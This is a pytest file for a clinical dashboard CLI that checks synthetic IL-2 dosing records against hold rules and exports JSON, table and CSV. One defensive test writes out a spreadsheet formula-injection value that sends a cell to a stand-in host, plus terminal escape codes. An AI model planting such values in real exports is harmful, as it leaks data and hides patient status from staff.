"""`python -m dashboard evaluate` (data-contract section 5): arguments, exit codes and the
JSON / table / CSV shapes, on a small folder of the three CSVs written here."""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from dashboard.cli import main

ROOT = Path(__file__).resolve().parent.parent

PATIENTS = """\
patient_id,name,bed,indication,protocol,baseline_weight_kg,baseline_creatinine_mg_dl,\
target_sbp_mmhg
P001,Ann Example,4,melanoma,,80,1.0,
P002,Bob Example,5,rcc,cwg-consensus-2014,90,,
P003,Cy Example,6,rcc,,70,1.0,
"""
DOSES = """\
patient_id,cycle,dose_number,scheduled_time,status,administered_time,dose_iu_per_kg,\
reason
P001,1,1,2026-03-02T08:00:00+00:00,given,2026-03-02T08:05:00+00:00,600000,
P001,1,2,2026-03-02T16:00:00+00:00,given,2026-03-02T16:00:00+00:00,600000,
P001,1,3,2026-03-03T00:00:00+00:00,given,2026-03-03T00:10:00+00:00,600000,
P001,1,4,2026-03-03T08:00:00+00:00,given,2026-03-03T08:00:00+00:00,600000,
P001,1,5,2026-03-03T16:00:00+00:00,given,2026-03-03T16:00:00+00:00,600000,
P001,1,6,2026-03-04T00:00:00+00:00,given,2026-03-04T00:00:00+00:00,600000,
P001,1,7,2026-03-02T16:00:00+00:00,scheduled,,600000,
P002,1,1,2026-03-02T08:00:00+00:00,given,2026-03-02T08:00:00+00:00,600000,
P002,1,2,2026-03-02T16:00:00+00:00,scheduled,,600000,
P003,1,1,2026-03-01T08:00:00+00:00,given,2026-03-01T08:00:00+00:00,600000,
"""
OBSERVATIONS = """patient_id,time,parameter,value,unit
P001,2026-03-02T12:05:00+00:00,sbp,84,mm[Hg]
P001,2026-03-02T12:05:00+00:00,spo2,97,%
P001,2026-03-02T12:00:00+00:00,mental_status,normal,
P001,2026-03-02T06:00:00+00:00,creatinine,88.4,umol/L
P001,2026-03-02T12:00:00+00:00,urine_output,300,mL
P002,2026-03-02T12:00:00+00:00,heart_rate,110,/min
"""


@pytest.fixture
def ward_folder(tmp_path):
    folder = tmp_path / "ward"
    folder.mkdir()
    (folder / "patients.csv").write_text(PATIENTS)
    (folder / "doses.csv").write_text(
        DOSES.replace("P001,1,7,2026-03-02T16:00:00+00:00", "P001,1,7,2026-03-04T08:00:00+00:00")
    )
    (folder / "observations.csv").write_text(OBSERVATIONS)
    return folder


def evaluate(*argv) -> tuple[int, str, str]:
    """``python -m dashboard evaluate ARGV --timezone UTC``: exit code, stdout, stderr."""
    import contextlib

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["evaluate", *map(str, argv), "--timezone", "UTC"])
    return code, out.getvalue(), err.getvalue()


def test_json_shape_of_the_contract(ward_folder):
    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00")
    assert code == 0
    document = json.loads(out)
    assert document["protocol"]["id"] == "proleukin-label"
    assert document["protocol"]["title"]
    assert document["evaluated_at"] == "2026-03-02T13:30:00+00:00"
    patients = {p["patient_id"]: p for p in document["patients"]}
    p1 = patients["P001"]
    assert p1["next_dose"] == {
        "cycle": 1,
        "dose_number": 2,
        "scheduled_time": "2026-03-02T16:00:00+00:00",
    }
    assert p1["status"] == "hold"
    hypotension = next(f for f in p1["findings"] if f["criterion"] == "hypotension")
    assert {
        key: hypotension[key]
        for key in ("criterion", "outcome", "parameter", "value", "unit", "time", "rule")
    } == {
        "criterion": "hypotension",
        "outcome": "hold",
        "parameter": "sbp",
        "value": 84,
        "unit": "mm[Hg]",
        "time": "2026-03-02T12:05:00+00:00",
        "rule": "latest sbp < 90 mm[Hg]",
    }
    assert "Proleukin label, section 2.4, Table 2" in hypotension["source"]
    # P002 follows the protocol of its row; its heart rate holds under the consensus
    assert patients["P002"]["status"] == "hold"
    assert patients["P002"]["protocol"] == "cwg-consensus-2014"
    # P003: every dose decided
    assert patients["P003"]["status"] == "no_dose_due"
    assert patients["P003"]["next_dose"] is None


def test_only_observations_up_to_at_are_used(ward_folder):
    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T12:00:00+00:00")
    p1 = json.loads(out)["patients"][0]
    assert all(
        f["criterion"] != "hypotension" or f["outcome"] == "incomplete" for f in p1["findings"]
    )  # the 12:05 sbp is not known at 12:00


def test_protocol_option_overrides_every_patient(ward_folder):
    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--protocol", "til-2024")
    document = json.loads(out)
    assert document["protocol"]["id"] == "til-2024"
    assert {p["protocol"] for p in document["patients"]} == {"til-2024"}


def test_incomplete_findings_say_what_is_missing(ward_folder):
    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T17:30:00+00:00")
    p1 = json.loads(out)["patients"][0]
    # the 84 at 12:05 is still the latest sbp (a hold), and it is 5 h 25 min old
    hypotension = [f for f in p1["findings"] if f["criterion"] == "hypotension"]
    assert [f["outcome"] for f in hypotension] == ["hold", "incomplete"]
    stale = hypotension[1]
    assert stale["detail"].startswith("no sbp in the last 4 h; last was 5 h 25 min ago")


def test_course_review_lists_every_dose(ward_folder):
    code, out, _ = evaluate(ward_folder, "--course")
    assert code == 0
    p1 = json.loads(out)["patients"][0]
    assert "next_dose" not in p1 and "status" not in p1
    assert [d["dose_number"] for d in p1["doses"]] == [1, 2, 3, 4, 5, 6, 7]
    second = p1["doses"][1]
    assert set(second) >= {
        "cycle",
        "dose_number",
        "scheduled_time",
        "recorded_status",
        "status",
        "findings",
    }
    assert second["recorded_status"] == "given"
    assert second["status"] == "hold"  # sbp 84 at 12:05 before dose 2 at 16:00


def test_table_is_for_a_person(ward_folder):
    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "table")
    assert code == 0
    # Units as clinicians write them (criteria.md 9.6): mmHg in the table, mm[Hg] in JSON.
    assert "P001" in out and "HOLD" in out and "latest sbp < 90 mmHg" in out
    assert "source:" in out


def test_csv_has_one_row_per_finding(ward_folder):
    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    p1 = [r for r in rows if r["patient_id"] == "P001"]
    assert any(
        r["criterion"] == "hypotension" and r["outcome"] == "hold" and r["value"] == "84"
        for r in p1
    )
    assert [r["status"] for r in rows if r["patient_id"] == "P003"] == ["no_dose_due"]


def test_at_without_offset_is_read_in_the_ward_zone(ward_folder):
    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30")
    assert json.loads(out)["evaluated_at"] == "2026-03-02T13:30:00+00:00"


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--at", "yesterday-ish"], "--at: 'yesterday-ish' is not a date and time of day"),
        # A year alone was taken as 1 January; a zone abbreviation was read as ward time.
        (["--at", "2026"], "--at: '2026' is not a date and time of day"),
        (["--at", "2026-03-02T13:30 EST"], "--at: '2026-03-02T13:30 EST' is not a valid date-time"),
        (["--at", "2300-01-01T00:00Z"], "--at: '2300-01-01T00:00Z' is not a valid date-time"),
        (["--protocol", "nope"], "'nope' is not a known protocol"),
    ],
)
def test_bad_arguments_exit_2_with_the_reason(ward_folder, argv, message):
    code, out, err = evaluate(ward_folder, *argv)
    assert code == 2 and out == ""
    assert message in err


def test_an_at_in_the_autumn_overlap_is_refused_not_guessed(ward_folder, capsys):
    # 01:30 on 1 November 2026 happens twice in New York: which one is meant?
    code = main(
        ["evaluate", str(ward_folder), "--at", "2026-11-01T01:30", "--timezone", "America/New_York"]
    )
    assert code == 2
    assert (
        "--at: '2026-11-01T01:30' does not exist or is ambiguous in America/New_York"
        in capsys.readouterr().err
    )


@pytest.mark.parametrize("course", [[], ["--course"]])
def test_an_at_in_the_spring_gap_is_a_user_error_not_a_traceback(ward_folder, course):
    """02:30 on 8 March 2026 never happens in New York (clocks jump 02:00 -> 03:00): the
    one time parser for people's input (loading/times.py) refuses it, exit 2."""
    import contextlib

    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        at = ["--at", "2026-03-08T02:30", "--timezone", "America/New_York"]
        code = main(["evaluate", str(ward_folder), *at, *course])
    assert code == 2
    assert err.getvalue() == (
        "error: --at: '2026-03-08T02:30' does not exist or is ambiguous in America/New_York "
        "(a daylight-saving change): write it with its UTC offset\n"
    )


def test_unreadable_input_exits_2_with_the_problems(tmp_path, ward_folder):
    (ward_folder / "observations.csv").write_text(
        OBSERVATIONS + "P001,2026-03-02T12:00:00+00:00,creatinine,2,mg/dl/h\n"
    )
    code, out, err = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00")
    assert code == 2 and out == ""
    assert "observations.csv" in err and "mg/dl/h" in err


def test_as_a_whole_process(ward_folder):
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "dashboard",
            "evaluate",
            str(ward_folder),
            "--at",
            "2026-03-02T13:30:00+00:00",
            "--timezone",
            "UTC",
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["patients"][0]["status"] == "hold"


def test_course_review_lists_a_patient_without_doses(ward_folder):
    (ward_folder / "patients.csv").write_text(PATIENTS + "P004,Dee Example,7,rcc,,60,,\n")
    _, out, _ = evaluate(ward_folder, "--course")
    patients = {p["patient_id"]: p for p in json.loads(out)["patients"]}
    assert patients["P004"] == {"patient_id": "P004", "doses": []}


def test_the_table_for_a_person_shows_ward_local_times(capsys):
    from dashboard import DATA_DIR

    code = main(
        [
            "evaluate",
            str(DATA_DIR / "demo"),
            "--at",
            "2026-03-04T14:30:00-05:00",
            "--format",
            "table",
            "--timezone",
            "America/New_York",
        ]
    )
    out = capsys.readouterr().out
    assert code == 0
    assert "times below in America/New_York" in out
    assert "2026-03-04 12:21" in out  # DEMO-01's sbp 74, charted 17:21 UTC
    assert " UTC" not in out.split("\n", 2)[2]  # no UTC stamp left below the header


def test_json_carries_valid_until_and_support(ward_folder):
    """data-contract section 5: per patient valid_until (UTC) and support items with value,
    unit (UCUM) and time."""
    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00")
    document = json.loads(out)
    for entry in document["patients"]:
        assert "valid_until" in entry
        if entry["valid_until"] is not None:
            assert entry["valid_until"].endswith("+00:00")
        kinds = {item["kind"] for item in entry["support"]}
        assert {"urine", "weight_gain", "creatinine", "oxygen"} <= kinds
        for item in entry["support"]:
            assert {"value", "unit", "time"} <= set(item)
        urine = next(i for i in entry["support"] if i["kind"] == "urine")
        assert urine["unit"] == "mL/kg/h"


def test_table_says_words_and_support(ward_folder):
    _, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "table")
    assert "support:" in out and "mm[Hg]" not in out.split("rule:")[0]


def test_exports_cannot_attack_a_spreadsheet_or_a_terminal(ward_folder):
    # A patient id from the input that a spreadsheet would run, or whose escape codes
    # would erase the status printed beside it in a terminal.
    hostile = '=HYPERLINK("http://x.example/?"&A1,"open")'
    text = (
        (ward_folder / "patients.csv")
        .read_text()
        .replace("P003,", '"' + hostile.replace('"', '""') + '",')
    )
    (ward_folder / "patients.csv").write_text(text)
    for name in ("doses.csv",):
        path = ward_folder / name
        path.write_text(path.read_text().replace("P003,", '"' + hostile.replace('"', '""') + '",'))
    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "csv")
    assert code == 0
    ids = {row["patient_id"] for row in csv.DictReader(io.StringIO(out))}
    assert "'" + hostile in ids and hostile not in ids

    escape = "P\x1b[2K\x1b[1A"
    (ward_folder / "patients.csv").write_text(
        text.replace('"' + hostile.replace('"', '""') + '"', escape)
    )
    path = ward_folder / "doses.csv"
    path.write_text(path.read_text().replace('"' + hostile.replace('"', '""') + '"', escape))
    code, out, _ = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--format", "table")
    assert code == 0
    assert "\x1b" not in out and "P?[2K?[1A" in out


def test_a_negative_number_stays_a_number_in_the_csv():
    from dashboard.exports import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in ("-0.5", "+3", "-", "@x", "\tx", 12)] == [
        "-0.5",
        "+3",
        "'-",
        "'@x",
        "'\tx",
        12,
    ]


def test_a_site_protocol_file_is_used_for_valid_until_too(ward_folder, tmp_path):
    # The site's copy of the label wants sbp within 1 h, under its own id: the verdict and
    # its validity both follow the file given, never the shipped label reloaded by id.
    from dashboard.protocols import PROTOCOL_DIR

    (tmp_path / "common").mkdir()
    (tmp_path / "common" / "kdigo-watch.yaml").write_bytes(
        (PROTOCOL_DIR / "common" / "kdigo-watch.yaml").read_bytes()
    )
    text = (PROTOCOL_DIR / "proleukin-label.yaml").read_text(encoding="utf-8")
    text = text.replace("id: proleukin-label", "id: site-label", 1).replace(
        "required: [{parameter: sbp, fresh_hours: 4}]",
        "required: [{parameter: sbp, fresh_hours: 1}]",
        1,
    )
    site = tmp_path / "site-label.yaml"
    site.write_text(text, encoding="utf-8")
    code, out, err = evaluate(ward_folder, "--at", "2026-03-02T13:30:00+00:00", "--protocol", site)
    assert code == 0, err
    p001 = next(p for p in json.loads(out)["patients"] if p["patient_id"] == "P001")
    assert p001["valid_until"] == "2026-03-02T13:05:00+00:00"  # sbp 12:05 + 1 h
    assert p001["recheck"] == "sbp"


# --------------------------------------------------------------------------- the shipped demo


def _verdicts(document: dict) -> dict[str, tuple]:
    return {
        p["patient_id"]: (
            p["status"],
            sorted((f["criterion"], f["outcome"]) for f in p["findings"]),
        )
        for p in document["patients"]
    }


def test_the_shipped_demo_at_the_real_clock_reads_as_the_app_shows_it(monkeypatch):
    """Months after the demo's files were written, `evaluate data/demo` moves the story to
    the real clock as the app does (and says so), instead of reading every patient
    incomplete: the verdicts are those of the files at the story's own "now"."""
    from dashboard import DEMO_DIR, evaluate_cli
    from dashboard.demo.clock import read_ward_info

    anchor = read_ward_info().anchor.tz_convert("UTC")
    real_now = anchor + pd.Timedelta(days=271, minutes=10)
    monkeypatch.setattr(evaluate_cli, "now", lambda: real_now)
    code, out, err = evaluate(DEMO_DIR)
    assert code == 0
    moved = json.loads(out)
    assert moved["evaluated_at"] == real_now.isoformat()
    assert "is the shipped demo ward" in err and f"moved by +{271 * 24:,} h" in err
    assert "--at" in err  # how to read the files as written

    _, out, err = evaluate(DEMO_DIR, "--at", (anchor + pd.Timedelta(minutes=10)).isoformat())
    as_written = json.loads(out)
    assert err == ""  # --at: the files as written, nothing moved
    assert _verdicts(moved) == _verdicts(as_written)
    statuses = {status for status, _ in _verdicts(moved).values()}
    assert statuses != {"incomplete"} and "hold" in statuses
    dose = next(p for p in moved["patients"] if p["patient_id"] == "DEMO-01")["next_dose"]
    assert pd.Timestamp(dose["scheduled_time"]) - real_now == pd.Timedelta(minutes=80)


def test_a_copy_of_the_demo_elsewhere_is_read_as_written(monkeypatch, tmp_path):
    import shutil

    from dashboard import DEMO_DIR, evaluate_cli

    copy = tmp_path / "demo-copy"
    shutil.copytree(DEMO_DIR, copy)
    monkeypatch.setattr(evaluate_cli, "now", lambda: pd.Timestamp("2026-12-01T12:00Z"))
    _, out, err = evaluate(copy)
    assert err == ""
    patients = {p["patient_id"]: p for p in json.loads(out)["patients"]}
    # the files' own times: DEMO-01's dose 8 at 16:00 New York time on 4 March 2026
    assert patients["DEMO-01"]["next_dose"]["scheduled_time"] == "2026-03-04T21:00:00+00:00"
